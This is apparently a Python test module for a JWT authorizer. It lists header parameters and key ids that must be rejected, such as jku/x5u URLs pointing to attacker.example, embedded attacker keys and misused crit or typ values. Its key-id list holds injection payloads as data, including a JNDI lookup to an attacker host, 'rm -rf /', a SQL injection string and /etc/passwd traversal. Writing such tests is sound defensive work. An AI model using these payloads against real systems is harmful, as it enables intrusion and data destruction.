"""T: header parameters that would change how a token is read, or where its key comes from; and key ids."""

from tests.functions.authorizer.authorizing import issuer
from tests.hostile.case import OWN, UNAUTHORIZED, each, tokens
from tests.tokens import ABSENT, ISSUER, mint, rsa_signer

ATTACKER = "attacker"
NO_KEY_ID = (None, 7, ["k1"], {"k1": 1}, True, "", 1.5)

PARAMETERS = [
    *tokens(
        OWN,
        {
            "T73 typ is optional": lambda: mint(typ=ABSENT),
            "T73b the usual typ": lambda: mint(typ="JWT"),
            "T73c media types have no case": lambda: mint(typ="jwt"),
            "T73d RFC 9068 access token": lambda: mint(typ="at+jwt"),
            "T73e RFC 9068 access token, in full": lambda: mint(typ="application/at+jwt"),
            "T73f media types have no case": lambda: mint(typ="Application/AT+JWT"),
            "T72 parameters that mean nothing to us are ignored": lambda: mint(x5t="dGh1bWJwcmludA", note="hello"),
        },
    ),
    *tokens(
        UNAUTHORIZED,
        {
            "T65 RFC 7515 4.1.11: what is critical and not understood must be refused": lambda: mint(
                crit=["exp"], exp=1
            ),
            "T65b critical, and not even present": lambda: mint(crit=["exp"]),
            "T66 crit must not be empty": lambda: mint(crit=[]),
            "T66b crit must be a list": lambda: mint(crit="exp"),
            "T66c crit must be a list": lambda: mint(crit=None),
            "T67 critical alg": lambda: mint(crit=["alg"]),
            "T68 RFC 7797: the payload would be read unencoded": lambda: mint(b64=False, crit=["b64"]),
            "T69 RFC 7797: b64 without crit": lambda: mint(b64=False),
            "T69b RFC 7797: b64 says what goes without saying": lambda: mint(b64=True),
            "T70 compression has no place in a JWS": lambda: mint(zip="DEF"),
            "T71 enc makes it look like a JWE": lambda: mint(enc="A256GCM"),
            "T15 embedded key, own key id": lambda: mint(jwk=rsa_signer("attacker").jwk),
            "T17 key set of the sender's choice": lambda: mint(jku="https://attacker.example/jwks.json"),
            "T17b key set at the issuer, named by the token": lambda: mint(jku=f"{ISSUER}/.well-known/jwks.json"),
            "T18 certificate of the sender's choice": lambda: mint(x5u="https://attacker.example/cert.pem"),
            "T19 certificate chain of the sender's choice": lambda: mint(x5c=["MIIBszCCARwCCQD"]),
            "T74 RFC 8725 3.11: another kind of token": lambda: mint(typ="JOSE"),
            "T74b RFC 8725 3.11: another kind of token": lambda: mint(typ="logout+jwt"),
            "T74c RFC 8725 3.11: another kind of token": lambda: mint(typ="dpop+jwt"),
            "T74d RFC 8725 3.11: another kind of token": lambda: mint(typ="secevent+jwt"),
            "T74e typ must be a text": lambda: mint(typ=5),
            "T74f typ must be a text": lambda: mint(typ=None),
            "T74g typ must be a text": lambda: mint(typ=["JWT"]),
            "T74h an empty typ": lambda: mint(typ=""),
            "T74i only one prefix": lambda: mint(typ="application/application/jwt"),
            "T74j white space around": lambda: mint(typ=" JWT"),
        },
    ),
]

ODD_KEY_IDS = (
    "../../../../dev/null",
    "file:///etc/passwd",
    "https://attacker.example/k1",
    "k1' OR '1'='1",
    "k1; rm -rf /",
    'k1\r\n{"decision":"allow"}\0',
    "k1\u2028x",
    "K1",
    "k1 ",
    " k1",
    "k1\0",
    "\uff4b1",
    "k\ud8001",
    "__proto__",
    "__class__",
    "${jndi:ldap://attacker.example/x}",
)

KEY_IDS = [
    *tokens(
        UNAUTHORIZED,
        {
            **each("T22 no usable key id", NO_KEY_ID, lambda value: mint(kid=value)),
            "T22 no key id": lambda: mint(kid=ABSENT),
            **each("T23 unknown key id", ODD_KEY_IDS, lambda value: mint(kid=value)),
        },
    ),
    *tokens(
        UNAUTHORIZED,
        {
            "T16 embedded key, attacker's key id": lambda: mint(rsa_signer(ATTACKER), jwk=rsa_signer(ATTACKER).jwk),
            "T16b embedded key, our key id": lambda: mint(rsa_signer(ATTACKER), kid="k1", jwk=rsa_signer(ATTACKER).jwk),
            "T20 attacker's key under our key id": lambda: mint(rsa_signer(ATTACKER), kid="k1"),
            "T21 unknown key id": lambda: mint(rsa_signer(ATTACKER)),
            "T21b unknown key id, genuine signature": lambda: mint(kid="k9"),
        },
    ),
    *tokens(
        UNAUTHORIZED,
        {"T29 names one trusted key, signed by another": lambda: mint(rsa_signer("k1"), kid="k2")},
        issuers=lambda: [issuer(rsa_signer("k1"), rsa_signer("k2"))],
    ),
    *tokens(
        OWN,
        {"T29b either of two keys": lambda: mint(rsa_signer("k2"))},
        issuers=lambda: [issuer(rsa_signer("k1"), rsa_signer("k2"))],
    ),
]

CASES = [*PARAMETERS, *KEY_IDS]
